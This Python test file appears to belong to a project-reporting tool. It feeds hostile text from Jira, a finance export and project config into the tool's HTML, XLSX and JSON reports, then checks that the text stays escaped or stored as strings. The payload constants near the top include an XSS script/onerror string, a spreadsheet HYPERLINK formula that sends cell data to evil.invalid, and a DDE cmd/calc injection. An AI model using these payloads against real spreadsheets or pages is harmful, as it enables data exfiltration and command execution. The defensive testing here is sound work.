"""Hostile text that arrives from the SOURCES (Jira summaries of epics, stories, risks, issues and
decisions; a finance export's vendor and comment; the project's name and narrative in pmsync.yaml) and
goes through sync, the store, reconcile and ``pmsync report``: in the HTML it is text, never markup;
in the XLSX it is a string, never a formula; the JSON reads back. (The writers alone are tested with
every model field in tests/report/test_hostile_text.py; this proves the whole path.)
"""

from __future__ import annotations

import dataclasses
import io
import json
import random
import zipfile
from collections.abc import Iterator
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import yaml
from click.testing import CliRunner
from report.htmlcheck import parse

from pmsync.cli import cli
from pmsync.sandbox.finance_gen import month_lines, write_export
from pmsync.sandbox.jira import jira_sandbox
from pmsync.sandbox.jira.data import issue_type_of

ANCHOR = datetime(2026, 11, 20, 9, 0, tzinfo=UTC)
SCRIPT = "<script>alert('{n}')</script><img src=x onerror=alert({n})>"
FORMULAS = ['=HYPERLINK("http://evil.invalid/?"&A1,"{n}")', "+cmd|' /C calc {n}'!A0", "@SUM(1+{n})", "-1+{n}"]


def payload(n: int) -> str:
    """A distinct hostile text per field: markup, then a formula lead (cycled)."""
    return FORMULAS[n % len(FORMULAS)].format(n=n) + " " + SCRIPT.format(n=n)


@dataclasses.dataclass
class Written:
    folder: Path
    html: str
    xlsx: bytes
    json: dict[str, Any]
    planted: dict[str, str]


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Written]:
    folder = tmp_path_factory.mktemp("hostile")
    planted: dict[str, str] = {"project name": payload(0), "narrative": payload(1)}
    with jira_sandbox(["ERP"], 20, seed=5, anchor=ANCHOR) as jira:
        for n in range(1, 21):
            text = payload(100 + n)
            jira.app.hooks.field_overrides[f"ERP-{n}"] = {"summary": text}
            planted[f"jira {issue_type_of(n)} ERP-{n}"] = text
        lines = list(month_lines(["P-100"], date(2026, 10, 1), 12, random.Random(3)))
        lines = [
            dataclasses.replace(line, supplier=payload(200 + i), comment=payload(300 + i))
            for i, line in enumerate(lines)
        ]
        planted.update({f"vendor {i}": line.supplier for i, line in enumerate(lines)})
        (folder / "finance").mkdir()
        write_export(folder / "finance" / "pa-costs-2026-10.csv", iter(lines))
        (folder / "narrative.md").write_text(planted["narrative"] + "\n", encoding="utf-8")
        config = {
            "store": {"url": "sqlite:///pmsync.db"},
            "projects": [
                {"key": "ERP", "name": planted["project name"], "narrative_file": "narrative.md",
                 "links": {"jira": ["ERP"], "finance_file": ["P-100"]}},
            ],
            "sources": [
                {"name": "jira", "type": "jira", **jira.source_settings(page_size=50)},
                {"name": "finance", "type": "finance_file", "path": "finance",
                 "mapping": "finance-oracle-ebs.yaml"},
            ],
        }  # fmt: skip
        path = folder / "pmsync.yaml"
        path.write_text(yaml.safe_dump(config, sort_keys=False), encoding="utf-8")
        runner = CliRunner()
        synced = runner.invoke(cli, ["--config", str(path), "sync"])
        assert synced.exit_code == 0, synced.output
    out = folder / "reports"
    made = runner.invoke(
        cli,
        [
            "--config",
            str(path),
            "report",
            "--period",
            "2026-11",
            "--format",
            "html,xlsx,json",
            "--out",
            str(out),
        ],
    )
    assert made.exit_code == 0, made.output
    yield Written(
        folder,
        (out / "report-2026-11.html").read_text(encoding="utf-8"),
        (out / "report-2026-11.xlsx").read_bytes(),
        json.loads((out / "report-2026-11.json").read_text(encoding="utf-8")),
        planted,
    )


def test_html_shows_source_text_as_text_and_creates_no_markup(written: Written) -> None:
    page = parse(written.html)
    assert page.find("script") == [] and page.find("img") == []
    assert all(not name.startswith("on") for element in page.elements for name in element.attrs)
    shown = [what for what, text in written.planted.items() if text in page.text]
    # What this report shows of them (vendors and work item names are not in a first-period report).
    for must in ("project name", "narrative", "jira Risk ERP-14", "jira Impediment ERP-19"):
        assert must in shown, f"{must} is missing from the report: {sorted(shown)}"


def test_xlsx_holds_source_text_as_strings_never_formulas(written: Written) -> None:
    with zipfile.ZipFile(io.BytesIO(written.xlsx)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                body = archive.read(name)
                assert b"<f>" not in body and b"<f " not in body, name
    book = openpyxl.load_workbook(io.BytesIO(written.xlsx))
    planted = set(written.planted.values())
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value in planted]
    found = {c.value for c in cells}
    assert written.planted["project name"] in found and written.planted["jira Risk ERP-14"] in found
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_json_report_carries_the_text_unchanged(written: Written) -> None:
    text = json.dumps(written.json, ensure_ascii=False)
    assert json.dumps(written.planted["project name"], ensure_ascii=False)[1:-1] in text
